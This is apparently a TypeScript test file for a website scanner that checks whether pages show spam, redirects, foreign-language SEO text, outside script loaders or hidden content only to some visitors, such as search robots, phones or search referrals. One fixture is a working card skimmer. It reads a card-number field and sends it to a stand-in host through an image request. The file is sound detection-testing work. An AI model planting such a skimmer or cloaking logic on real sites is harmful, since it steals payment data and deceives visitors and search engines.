import type { IncomingMessage } from 'node:http';
import { describe, expect, it } from 'vitest';
import { checked, lead, only, page, show, told, words, type Serve } from './visited-site.ts';

const spam =
  '<p>cheap viagra and cialis from the best online casino with poker</p><a href="https://pills.example.net/viagra">viagra</a>';
const loader = '<script src="https://cdn.stranger-example.net/a.js"></script>';
const skimmer = `<script>document.querySelector('form').addEventListener('submit',()=>{var n=document.querySelector('[name=cc_number]').value;new Image().src='https://c.stranger-example.net/p.gif?d='+btoa(n)})</script>`;
const japanese = `<p>${'格安のブランド時計と財布の通販、送料無料で毎日発送しています。'.repeat(8)}</p>`;

const fromSearch = ({ headers }: IncomingMessage): boolean => /google/.test(headers.referer ?? '');
const byPhone = ({ headers }: IncomingMessage): boolean => /iPhone/.test(headers['user-agent'] ?? '');
const robot = ({ headers }: IncomingMessage): boolean => /Googlebot/.test(headers['user-agent'] ?? '');
const returning = ({ headers }: IncomingMessage): boolean => /seen=1/.test(headers.cookie ?? '');
const once = (holds: (request: IncomingMessage) => boolean): ((request: IncomingMessage) => boolean) => {
  let count = 0;
  return (request) => holds(request) && (count += 1) === 1;
};

describe('a page that shows to some alone', () => {
  it.each<[string, Serve, readonly string[]]>([
    [
      'a redirect, from search engines',
      only(fromSearch, lead('https://pills.example.net/')),
      ['high high to visitors who come from a search engine, and not to others'],
    ],
    [
      'a redirect, once',
      only(once(fromSearch), lead('https://pills.example.net/')),
      ['high medium to visitors who come from a search engine, and not to others'],
    ],
    [
      'a refresh, to phones',
      only(byPhone, show('<meta http-equiv="refresh" content="0;url=//win.example.net/">')),
      ['high high to visitors with a phone, and not to others'],
    ],
    [
      'spam, to robots',
      only(robot, show(page(spam))),
      ['high high to visitors who are robots of search engines, and not to others'],
    ],
    [
      'another writing, to robots',
      only(robot, show(page(japanese.repeat(2)))),
      ['high high to visitors who are robots of search engines, and not to others'],
    ],
    [
      'a skimmer, to browsers',
      only(({ headers }) => /Chrome/.test(headers['user-agent'] ?? ''), show(page(skimmer))),
      ['high high to visitors with a browser, and not to others'],
    ],
    [
      'a script of a stranger, from search engines',
      only(fromSearch, show(page(loader))),
      ['medium high to visitors who come from a search engine, and not to others'],
    ],
    [
      'a redirect, the second time',
      only(returning, lead('https://win.example.net/'), show(page(), 200, { 'set-cookie': 'seen=1' })),
      ['high high to visitors who come a second time, and not to others'],
    ],
  ])('%s, is told', async (_, serve, expected) => {
    const result = await checked(serve);
    expect(told(result)).toEqual(expected);
    expect(result.server.headers.every((one) => one['user-agent']?.includes('leaksieve/test'))).toBe(true);
  });

  it.each<[string, Serve]>([
    ['nothing', show(page())],
    [
      'a layout for phones',
      only(
        byPhone,
        show(`<h1>Bicycles</h1><p>${words}</p><script src="https://m.touch-example.net/m.js"></script>`),
      ),
    ],
    ['the shop for its program', only(byPhone, lead('https://apps.apple.com/app/id1'))],
    ['a namesake in another country', only(byPhone, lead('http://127.0.0.1:1/en'))],
    [
      'measurement of advertisements',
      only(
        fromSearch,
        show(
          page(
            '<script src="https://www.googletagmanager.com/gtag/js"></script><script>var g={src:"search"}</script>',
          ),
        ),
      ),
    ],
    [
      'a variant by chance',
      (() => {
        let turn = 0;
        const serve: Serve = (request, response) =>
          show(
            page(
              (turn += 1) % 2 === 0
                ? '<h2>Summer sale</h2><script src="https://ab.test-example.net/v.js"></script>'
                : '',
            ),
          )(request, response);
        return serve;
      })(),
    ],
    ['spam to all', show(page(spam))],
    ['a leaner page to robots', only(robot, show(`<h1>Bicycles</h1><p>${words}</p>`))],
    ['a redirect to all', lead('https://www.example.net/')],
  ])('%s, is no finding', async (_, serve) => {
    expect(told(await checked(serve))).toEqual([]);
  });

  it('nothing while it refuses robots that do not come from their addresses, is checked without them', async () => {
    const { findings, checks } = await checked(only(robot, show('no', 403)));
    expect([findings, checks.find(({ id }) => id === 'cloaked-page')]).toMatchObject([
      [],
      { state: 'checked', reason: 'not as a search robot: it answered 403' },
    ]);
  });

  it('nothing that can be seen, as it refuses us, stays open', async () => {
    const { findings, checks } = await checked(show('no', 403));
    expect([findings, checks.find(({ id }) => id === 'cloaked-page')?.state]).toEqual([[], 'blocked']);
  });

  it('whatever it is, is not asked for without --active, and six times with it', async () => {
    expect((await checked(show(page()), ['cloud'])).server.requests).toEqual([]);
    expect((await checked(show(page()))).server.requests).toHaveLength(6);
  });
});
